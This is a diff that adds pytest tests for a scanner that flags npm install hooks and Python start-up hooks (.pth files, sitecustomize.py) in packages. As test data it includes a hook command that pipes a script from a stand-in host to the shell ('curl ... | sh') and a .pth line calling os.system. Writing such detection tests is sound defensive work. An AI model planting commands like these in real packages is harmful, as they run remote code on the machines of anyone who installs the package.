@@ -1,0 +1,73 @@
+"""What a package has run when it is installed, or later, without being asked to."""
+
+import json
+
+import pytest
+from archived import ids, paths, report_on
+from packed import ELF, tarred, zipped
+
+
+def npm(scripts: object, name: str = "package/package.json") -> bytes:
+    return tarred({name: json.dumps({"name": "x", "scripts": scripts}).encode(), "package/bin/tool": ELF})
+
+
+@pytest.mark.parametrize("hook", ["preinstall", "install", "postinstall"])
+def test_what_npm_runs_at_an_install_is_told(hook: str):
+    report = report_on(npm({hook: "curl -s https://x.example | sh"}))
+    assert (ids(report), paths(report)) == ({"install-hook"}, ["package/bin/tool"])
+    [finding] = report.findings
+    assert finding.detail == f"package/package.json has npm run at its {hook}: 'curl -s https://x.example | sh'."
+    assert (report.analysed, report.verdict.level) == (True, "caution")
+
+
+@pytest.mark.parametrize(
+    "scripts", [{"test": "x", "prepare": "x"}, {}, None, [], {"install": ""}, {"install": 5}, {"Postinstall": "x"}]
+)
+def test_what_npm_runs_only_when_it_is_asked_to_is_not(scripts: object):
+    assert ids(report_on(npm(scripts))) == set()
+
+
+def test_a_package_that_another_brings_along_is_installed_with_it():
+    hooked = {"postinstall": "x"}
+    for place in ("package/node_modules/a/package.json", "package/node_modules/@a/b/node_modules/c/package.json"):
+        assert ids(report_on(npm(hooked, place))) == {"install-hook"}
+    assert ids(report_on(npm(hooked, "package/test/fixtures/package.json"))) == set()
+
+
+@pytest.mark.parametrize("text", [b"[" * 100_000, b'{"scripts": ', b'{"version": ' + b"9" * 5000 + b"}"])
+def test_what_cannot_be_read_of_a_package_is_said(text: bytes):
+    [finding] = report_on(tarred({"package/package.json": text, "package/tool": ELF})).findings
+    assert (finding.id, "cannot be read" in finding.detail) == ("install-hook", True)
+
+
+def test_npm_builds_what_has_a_recipe_for_it():
+    assert ids(report_on(tarred({"package/binding.gyp": b"{}", "package/tool": ELF}))) == {"install-hook"}
+
+
+@pytest.mark.parametrize(
+    ("name", "text"),
+    [
+        ("x.pth", b"/somewhere\nimport os; os.system('x')\n"),
+        ("x-1.data/purelib/x.pth", b"import\tx"),
+        ("usr/lib/python3/dist-packages/x.pth", b"import x"),
+        ("sitecustomize.py", b"print()"),
+    ],
+)
+def test_what_python_runs_whenever_it_starts_is_told(name: str, text: bytes):
+    assert "install-hook" in ids(report_on(zipped({name: text, "x/tool": ELF})))
+
+
+@pytest.mark.parametrize(
+    ("name", "text"), [("x.pth", b"/somewhere\n#import x\n"), ("model/x.pth", b"import x"), ("x/sitecustomize.py", b"")]
+)
+def test_what_python_does_not_run_by_itself_is_not(name: str, text: bytes):
+    assert "install-hook" not in ids(report_on(zipped({name: text, "x/tool": ELF})))
+
+
+def test_a_program_that_is_called_like_a_hook_is_looked_at():
+    assert paths(report_on(zipped({"package.json": ELF, "x.pth": ELF}))) == ["package.json", "x.pth"]
+
+
+def test_scripts_that_only_their_names_show_are_said_not_to_be_looked_at():
+    report = report_on(zipped({"tool": ELF, "a.py": b"x", "b.PS1": b"x", "c.js": b"x", "README": b"x"}))
+    assert (ids(report), report.findings[0].detail, report.analysed) == ({"scripts"}, "3: a.py; b.PS1; c.js", True)
